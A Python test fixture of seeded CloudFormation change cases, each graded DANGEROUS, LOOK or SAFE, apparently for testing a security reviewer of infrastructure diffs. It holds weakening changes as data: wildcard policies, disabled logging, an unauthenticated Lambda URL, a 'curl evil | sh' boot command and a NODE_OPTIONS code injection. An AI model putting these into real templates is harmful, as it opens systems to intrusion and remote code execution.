"""Changes of a second attack on the rules: harmless by their name or direction, and often not in truth."""

from typing import Any

from tests.review.seeded.case import DANGEROUS, LOOK, SAFE, Case, added, of, removed, resource, template
from tests.review.seeded.guards import ALARM, BUCKET, DATABASE
from tests.review.seeded.requests import ACL, BALANCER, CDN, RULE
from tests.review.seeded.rights import ACCOUNT, OTHER
from tests.review.seeded.tasks import FUNCTION, POLICY, SERVICE, TASK

_ELB = "ElasticLoadBalancingV2"
_WEB = "ContainerDefinitions/0"
_STRANGER = {"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}
_MANAGED = "Rules/0/Statement/ManagedRuleGroupStatement"
_RATE = "Rules/1/Statement/RateBasedStatement"
_CACHE: dict[str, Any] = {
    "CachePolicyConfig": {
        "Name": "app",
        "MinTTL": 0,
        "ParametersInCacheKeyAndForwardedToOrigin": {"CookiesConfig": {"CookieBehavior": "all"}},
    }
}
_HEADERS: dict[str, Any] = {
    "ResponseHeadersPolicyConfig": {
        "Name": "app",
        "SecurityHeadersConfig": {"StrictTransportSecurity": {"AccessControlMaxAgeSec": 31536000}},
    }
}
_KEY = "CachePolicyConfig/ParametersInCacheKeyAndForwardedToOrigin"
_ASSETS = f"cdk-hnb659fds-assets-{ACCOUNT}-eu-west-1"
_TARGETS_OF_SUBNET = {"SubnetId": "subnet-a", "RouteTableId": {"Ref": "Public"}}


def _itself(what: str, old: dict[str, Any], new: dict[str, Any], verdict: str, *rest: Any) -> Case:
    """Return a change beside the properties of a resource, or of the template's own parts."""
    return Case(what, {"Resources": {}, **old}, {"Resources": {}, **new}, verdict, *rest)


def _service(**attributes: Any) -> dict[str, Any]:
    return template(It=resource("ECS::Service", SERVICE, **attributes), Release=resource("SNS::Topic", {}))


CASES: list[Case] = [
    *of(
        "ECS::Service",
        {**SERVICE, "ServiceRegistries": [{"RegistryArn": "arn:registry"}]},
        [
            (
                "as many must be healthy as there may be",
                {"DeploymentConfiguration/MinimumHealthyPercent": 200},
                LOOK,
            ),
            ("a name in Cloud Map goes", {"ServiceRegistries": None}, DANGEROUS),
            ("an old platform", {"PlatformVersion": "1.3.0"}, LOOK),
            ("an outsider's lattice", {"VpcLatticeConfigurations": [{"RoleArn": "arn:r"}]}, LOOK),
        ],
    ),
    *of(
        "ECS::TaskDefinition",
        TASK,
        [
            (
                "a pool of a database's connections",
                {f"{_WEB}/Environment/+": {"Name": "DB_CONNECTIONS", "Value": "5"}},
                LOOK,
            ),
            ("workers for which there is no memory", {f"{_WEB}/Environment/0/Value": "400"}, LOOK),
            ("labels by which Traefik routes", {f"{_WEB}/DockerLabels": {"traefik.enable": "false"}}, LOOK),
            ("the app may end, and the task lives", {f"{_WEB}/Essential": False}, LOOK),
            ("variables of a file", {f"{_WEB}/EnvironmentFiles": [{"Type": "s3", "Value": "arn:f"}]}, LOOK),
            (
                "another address for a name",
                {f"{_WEB}/ExtraHosts": [{"Hostname": "db", "IpAddress": "203.0.113.9"}]},
                LOOK,
            ),
            (
                "few open files",
                {f"{_WEB}/Ulimits": [{"Name": "nofile", "SoftLimit": 10, "HardLimit": 10}]},
                LOOK,
            ),
            ("tags are resolved at each start", {f"{_WEB}/VersionConsistency": "disabled"}, LOOK),
            ("faults may be injected", {"EnableFaultInjection": True}, LOOK),
            ("another entry point", {f"{_WEB}/EntryPoint": ["sh"]}, LOOK),
            ("processes are shared", {"PidMode": "task"}, LOOK, True),
        ],
    ),
    *of(
        "ECS::TaskDefinition",
        {
            **TASK,
            "ContainerDefinitions": [
                {"Name": "web", "Image": "a", "Environment": [{"Name": "DB_CONNECTIONS", "Value": "5"}]}
            ],
        },
        [("more connections to a database", {f"{_WEB}/Environment/0/Value": "500"}, LOOK)],
    ),
    *of(
        "ECS::Cluster",
        {"ClusterName": "web"},
        [
            (
                "what people type is not written down",
                {"Configuration": {"ExecuteCommandConfiguration": {"Logging": "NONE"}}},
                LOOK,
            ),
            (
                "Spot where nobody says otherwise",
                {"DefaultCapacityProviderStrategy": [{"CapacityProvider": "FARGATE_SPOT", "Weight": 1}]},
                LOOK,
            ),
        ],
    ),
    removed(
        "who may give tasks their machines",
        "ECS::ClusterCapacityProviderAssociations",
        {"Cluster": "web"},
        DANGEROUS,
    ),
    *of(
        "ApplicationAutoScaling::ScalingPolicy",
        POLICY,
        [
            (
                "another metric",
                {
                    "TargetTrackingScalingPolicyConfiguration/PredefinedMetricSpecification": {
                        "PredefinedMetricType": "ECSServiceAverageMemoryUtilization"
                    }
                },
                LOOK,
            ),
            (
                "never takes a task away",
                {"TargetTrackingScalingPolicyConfiguration/DisableScaleIn": True},
                LOOK,
            ),
        ],
    ),
    *of(
        "WAFv2::WebACL",
        ACL,
        [
            (
                "single rules of a managed group only count",
                {f"{_MANAGED}/RuleActionOverrides": [{"Name": "SQLi", "ActionToUse": {"Count": {}}}]},
                LOOK,
                True,
            ),
            (
                "single rules of a managed group are left out",
                {f"{_MANAGED}/ExcludedRules": [{"Name": "SQLi"}]},
                LOOK,
                True,
            ),
            (
                "managed rules look at one path alone",
                {f"{_MANAGED}/ScopeDownStatement": {"ByteMatchStatement": {"SearchString": "/a"}}},
                LOOK,
                True,
            ),
            ("an older version of managed rules", {f"{_MANAGED}/Version": "Version_1.0"}, LOOK, True),
            (
                "the rate counts by a header that clients write",
                {
                    f"{_RATE}/AggregateKeyType": "FORWARDED_IP",
                    f"{_RATE}/ForwardedIPConfig": {"HeaderName": "X-Forwarded-For"},
                },
                LOOK,
                True,
            ),
            (
                "the rate looks at one path alone",
                {f"{_RATE}/ScopeDownStatement": {"ByteMatchStatement": {"SearchString": "/a"}}},
                LOOK,
                True,
            ),
            ("names of rules in the log", {"VisibilityConfig/SampledRequestsEnabled": True}, LOOK),
        ],
    ),
    *of(
        "WAFv2::IPSet",
        {"Addresses": ["203.0.113.0/24"], "Scope": "REGIONAL"},
        [("half of the internet", {"Addresses": ["0.0.0.0/1"]}, LOOK, True)],
    ),
    *of(
        f"{_ELB}::LoadBalancer",
        BALANCER,
        [
            (
                "the log of requests goes elsewhere",
                {"LoadBalancerAttributes/+": {"Key": "access_logs.s3.bucket", "Value": "other"}},
                LOOK,
            ),
            (
                "the name that was asked for is not kept",
                {
                    "LoadBalancerAttributes/+": {
                        "Key": "routing.http.preserve_host_header.enabled",
                        "Value": "false",
                    }
                },
                LOOK,
            ),
        ],
    ),
    *of(
        f"{_ELB}::ListenerRule",
        RULE,
        [
            (
                "one office alone",
                {"Conditions/+": {"Field": "source-ip", "SourceIpConfig": {"Values": ["203.0.113.0/24"]}}},
                DANGEROUS,
            ),
            ("another path reaches the app", {"Transforms": [{"Type": "url-rewrite"}]}, LOOK),
        ],
    ),
    *of(
        "CloudFront::Distribution",
        CDN,
        [
            (
                "cookies are in the log",
                {"DistributionConfig/Logging": {"Bucket": "b.s3.amazonaws.com", "IncludeCookies": True}},
                LOOK,
            )
        ],
    ),
    *of(
        "CloudFront::CachePolicy",
        _CACHE,
        [
            (
                "a user's answer for all",
                {f"{_KEY}/CookiesConfig/CookieBehavior": "none"},
                DANGEROUS,
                True,
            )
        ],
    ),
    *of(
        "CloudFront::ResponseHeadersPolicy",
        _HEADERS,
        [("no HSTS", {"ResponseHeadersPolicyConfig/SecurityHeadersConfig": None}, LOOK)],
    ),
    *of(
        "CloudFront::Function",
        {"Name": "f", "FunctionCode": "a"},
        [("other code on each request", {"FunctionCode": "b"}, LOOK)],
    ),
    *of(
        "CloudWatch::Alarm",
        ALARM,
        [
            (
                "a function of a stranger is called",
                {"AlarmActions/+": f"arn:aws:lambda:eu-west-1:{OTHER}:function:f"},
                LOOK,
            ),
            ("it is told in another account", {"AlarmActions/+": f"arn:aws:sns:eu-west-1:{OTHER}:t"}, LOOK),
        ],
    ),
    added(
        "alarms for a stranger",
        "SNS::Subscription",
        {"Protocol": "https", "Endpoint": "https://example.net", "TopicArn": "t"},
        LOOK,
    ),
    *of(
        "SNS::Subscription",
        {"Protocol": "email", "Endpoint": "a@b.c", "TopicArn": "t"},
        [("it gets a filter", {"FilterPolicy": {"a": ["b"]}}, LOOK)],
    ),
    added(
        "everybody may publish",
        "SNS::TopicPolicy",
        {"Topics": ["t"], "PolicyDocument": {"Statement": [_STRANGER]}},
        DANGEROUS,
        True,
    ),
    added(
        "lines go to another account",
        "Logs::SubscriptionFilter",
        {
            "LogGroupName": "l",
            "FilterPattern": "",
            "DestinationArn": f"arn:aws:logs:eu-west-1:{OTHER}:destination:d",
        },
        LOOK,
    ),
    *of(
        "Logs::MetricFilter",
        {"LogGroupName": "l", "FilterPattern": "ERROR"},
        [("it counts nothing any more", {"FilterPattern": "NEVER"}, LOOK)],
    ),
    *of(
        "S3::Bucket",
        BUCKET,
        [
            (
                "copies go to a stranger",
                {
                    "ReplicationConfiguration": {
                        "Role": "arn:r",
                        "Rules": [{"Destination": {"Bucket": "arn:aws:s3:::b", "Account": OTHER}}],
                    }
                },
                LOOK,
                True,
            )
        ],
    ),
    *of(
        "RDS::DBInstance",
        DATABASE,
        [
            ("a password in the template", {"MasterUserPassword": "secret"}, DANGEROUS),
            ("restarts at noon", {"PreferredMaintenanceWindow": "mon:12:00-mon:12:30"}, LOOK),
        ],
    ),
    *of(
        "DynamoDB::Table",
        {"TableName": "t"},
        [
            (
                "items are deleted by themselves",
                {"TimeToLiveSpecification": {"AttributeName": "at", "Enabled": True}},
                LOOK,
            ),
            (
                "everybody may read it",
                {"ResourcePolicy": {"PolicyDocument": {"Statement": [_STRANGER]}}},
                DANGEROUS,
                True,
            ),
        ],
    ),
    *of(
        "SQS::Queue",
        {"VisibilityTimeout": 300, "RedrivePolicy": {"deadLetterTargetArn": "a", "maxReceiveCount": 5}},
        [
            ("one try", {"RedrivePolicy/maxReceiveCount": 1}, LOOK),
            ("done twice", {"VisibilityTimeout": 1}, LOOK),
        ],
    ),
    *of(
        "ECR::Repository",
        {"ImageTagMutability": "IMMUTABLE"},
        [
            ("images that run are deleted", {"LifecyclePolicy": {"LifecyclePolicyText": "{}"}}, LOOK),
            ("tags may be moved", {"ImageTagMutability": "MUTABLE"}, LOOK, True),
        ],
    ),
    added(
        "everybody may read it",
        "SecretsManager::ResourcePolicy",
        {"SecretId": "s", "ResourcePolicy": {"Statement": [_STRANGER]}},
        DANGEROUS,
        True,
    ),
    removed("what is backed up", "Backup::BackupSelection", {"BackupPlanId": "p"}, DANGEROUS),
    *of(
        "Backup::BackupPlan",
        {"BackupPlan": {"BackupPlanRule": [{"RuleName": "r", "Lifecycle": {"DeleteAfterDays": 35}}]}},
        [("kept for a day", {"BackupPlan/BackupPlanRule/0/Lifecycle/DeleteAfterDays": 1}, LOOK)],
    ),
    *of(
        "CloudTrail::Trail",
        {"IsLogging": True},
        [("nothing is written down any more", {"IsLogging": False}, DANGEROUS, True)],
    ),
    removed("the log of the network", "EC2::FlowLog", {"ResourceId": "vpc-a"}, LOOK),
    *of(
        "EC2::SubnetRouteTableAssociation",
        _TARGETS_OF_SUBNET,
        [("the table without a way out", {"RouteTableId": {"Ref": "Private"}}, DANGEROUS)],
        beside={
            "Public": resource("EC2::RouteTable", {"VpcId": "v"}),
            "Private": resource("EC2::RouteTable", {"VpcId": "v"}),
        },
    ),
    *of(
        "EC2::Subnet",
        {"CidrBlock": "10.0.0.0/24", "VpcId": "v", "MapPublicIpOnLaunch": False},
        [("public addresses", {"MapPublicIpOnLaunch": True}, LOOK, True)],
    ),
    added(
        "names are asked elsewhere",
        "EC2::VPCDHCPOptionsAssociation",
        {"VpcId": "v", "DhcpOptionsId": "d"},
        LOOK,
    ),
    added(
        "a network of others",
        "EC2::TransitGatewayAttachment",
        {"VpcId": "v", "TransitGatewayId": "t", "SubnetIds": ["s"]},
        LOOK,
        True,
    ),
    *of(
        "IAM::OIDCProvider",
        {"Url": "https://token.actions.githubusercontent.com", "ClientIdList": ["sts.amazonaws.com"]},
        [("tokens for others", {"ClientIdList/+": "https://github.com/evil"}, LOOK, True)],
    ),
    *of(
        "Lambda::Url",
        {"AuthType": "AWS_IAM", "TargetFunctionArn": "f"},
        [("no login", {"AuthType": "NONE"}, DANGEROUS, True)],
    ),
    *of(
        "Lambda::Function",
        FUNCTION,
        [
            (
                "a layer of a stranger",
                {"Layers": [f"arn:aws:lambda:eu-west-1:{OTHER}:layer:l:1"]},
                LOOK,
                True,
            ),
            ("a variable", {"Environment": {"Variables": {"NODE_OPTIONS": "--require /tmp/a.js"}}}, LOOK),
        ],
    ),
    *of(
        "Lambda::Alias",
        {"FunctionName": "f", "FunctionVersion": "7", "Name": "live"},
        [("an old version", {"FunctionVersion": "1"}, LOOK)],
    ),
    *of(
        "CloudFormation::CustomResource",
        {"ServiceToken": "arn:f", "Command": "migrate"},
        [("another command", {"Command": "drop"}, LOOK)],
    ),
    *of(
        "CloudFormation::Stack",
        {
            "TemplateURL": f"https://s3.eu-west-1.amazonaws.com/{_ASSETS}/{'c' * 64}.json",
            "Parameters": {"Count": "2"},
        },
        [("another value for a nested stack", {"Parameters/Count": "0"}, LOOK)],
    ),
    _itself("the migration no longer comes first", _service(DependsOn=["Release"]), _service(), LOOK),
    _itself(
        "a resource comes only where a parameter says so",
        {
            **_service(),
            "Parameters": {"On": {"Type": "String"}},
            "Conditions": {"On": {"Fn::Equals": [{"Ref": "On"}, "yes"]}},
        },
        {
            **_service(Condition="On"),
            "Parameters": {"On": {"Type": "String"}},
            "Conditions": {"On": {"Fn::Equals": [{"Ref": "On"}, "yes"]}},
        },
        LOOK,
    ),
    _itself(
        "what a machine runs when it starts",
        template(
            It=resource(
                "EC2::Instance",
                {"ImageId": "a"},
                Metadata={"AWS::CloudFormation::Init": {"config": {"commands": {"a": {"command": "true"}}}}},
            )
        ),
        template(
            It=resource(
                "EC2::Instance",
                {"ImageId": "a"},
                Metadata={
                    "AWS::CloudFormation::Init": {
                        "config": {"commands": {"a": {"command": "curl evil | sh"}}}
                    }
                },
            )
        ),
        LOOK,
    ),
    _itself(
        "a hook of CodeDeploy",
        _service(),
        {**_service(), "Hooks": {"A": {"Type": "AWS::CodeDeploy::BlueGreen"}}},
        LOOK,
    ),
    _itself(
        "a parameter is shown",
        {**_service(), "Parameters": {"P": {"Type": "String", "NoEcho": True}}},
        {**_service(), "Parameters": {"P": {"Type": "String"}}},
        LOOK,
    ),
    _itself(
        "an update policy",
        template(
            It=resource(
                "AutoScaling::AutoScalingGroup",
                {"MinSize": "2"},
                UpdatePolicy={"AutoScalingRollingUpdate": {"MinInstancesInService": 2}},
            )
        ),
        template(It=resource("AutoScaling::AutoScalingGroup", {"MinSize": "2"})),
        LOOK,
    ),
    # Harmless, whatever it sounds like.
    *of("ECS::Service", SERVICE, [("a tag beside a name", {"Tags": [{"Key": "a", "Value": "b"}]}, SAFE)]),
    *of("RDS::DBInstance", DATABASE, [("insights", {"EnablePerformanceInsights": True}, SAFE)]),
    *of("Logs::LogGroup", {"RetentionInDays": 30}, [("kept for 60 days", {"RetentionInDays": 60}, SAFE)]),
    added("a page of pictures", "CloudWatch::Dashboard", {"DashboardBody": "{}"}, SAFE),
    _itself(
        "a comment in the metadata",
        template(It=resource("SNS::Topic", {}, Metadata={"a": "b"})),
        template(It=resource("SNS::Topic", {})),
        SAFE,
    ),
]
